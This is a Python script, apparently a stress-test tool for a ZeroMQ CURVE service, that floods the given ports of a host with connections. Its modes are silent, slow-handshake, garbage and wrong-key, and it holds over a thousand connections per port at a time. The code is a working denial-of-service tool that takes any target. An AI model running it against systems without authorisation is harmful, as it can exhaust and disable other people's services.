"""Attacks on the ports of a host, as a stranger without the key sends them: `flood.py KIND HOST PORT,PORT SECONDS`.

It prints the number of connections that it has made.
"""

from __future__ import annotations

import os
import random
import resource
import selectors
import socket
import sys
import time
from collections.abc import Callable, Sequence
from concurrent.futures import ThreadPoolExecutor

OPEN = 1100
"""Connections to a port that are held at once: more than the descriptors of a process with the usual limit."""
PER_S = 1000
"""New connections in a second."""
GREETING = b"\xff" + bytes(8) + b"\x7f\x03\x00CURVE" + bytes(48)
"""Greeting of ZeroMQ: its signature, version and mechanism."""


def silent(connection: socket.socket) -> None:
    """Send nothing."""


def slow(connection: socket.socket) -> None:
    """Send a greeting, and nothing of the handshake that follows."""
    connection.send(GREETING)


def garbage(connection: socket.socket) -> None:
    """Send random bytes."""
    connection.send(random.randbytes(1 << 14))


def wrong_key(connection: socket.socket) -> None:
    """Send a greeting and a first command of a handshake, sealed with no key of the run."""
    hello = b"\x05HELLO" + b"\x01\x00" + bytes(72) + random.randbytes(32 + 8 + 80)
    connection.send(GREETING + b"\x04" + bytes([len(hello)]) + hello)


KINDS: dict[str, Callable[[socket.socket], None]] = {
    "silent": silent, "slow handshake": slow, "garbage": garbage, "wrong key": wrong_key,
}  # fmt: skip


def flood(kind: str, host: str, ports: Sequence[int], seconds: float) -> int:
    """Attack each port in a thread of its own, since some do not answer; return the number of connections."""
    with ThreadPoolExecutor(len(ports)) as threads:
        return sum(threads.map(lambda port: _flood_port(kind, host, port, seconds, PER_S / len(ports)), ports))


def _flood_port(kind: str, host: str, port: int, seconds: float, per_s: float) -> int:
    """Hold OPEN connections to a port, and replace each that the host closes; return the number of all."""
    held: set[socket.socket] = set()
    began, made = time.monotonic(), 0
    with selectors.DefaultSelector() as watched:
        while time.monotonic() < began + seconds:
            if len(held) < OPEN and made < per_s * (time.monotonic() - began):
                connection = _connected(kind, host, port)
                if connection is not None:
                    made += 1
                    held.add(connection)
                    watched.register(connection, selectors.EVENT_READ)
            for key, _ in watched.select(0.001):
                _drop_if_closed(key.fileobj, held, watched)  # type: ignore[arg-type]
    return made


def _connected(kind: str, host: str, port: int) -> socket.socket | None:
    try:
        connection = socket.create_connection((host, port), timeout=0.2)
        connection.settimeout(0.2)
        KINDS[kind](connection)
        connection.setblocking(False)
    except OSError:
        return None
    return connection


def _drop_if_closed(connection: socket.socket, held: set[socket.socket], watched: selectors.BaseSelector) -> None:
    try:
        if connection.recv(1 << 12):
            return
    except BlockingIOError:
        return
    except OSError:
        pass
    watched.unregister(connection)
    held.remove(connection)
    connection.close()


if __name__ == "__main__":
    most = resource.getrlimit(resource.RLIMIT_NOFILE)[1]
    resource.setrlimit(resource.RLIMIT_NOFILE, (most, most))
    os.nice(19)
    kind, host, ports, seconds = sys.argv[1:]
    print(flood(kind, host, [int(port) for port in ports.split(",")], float(seconds)))
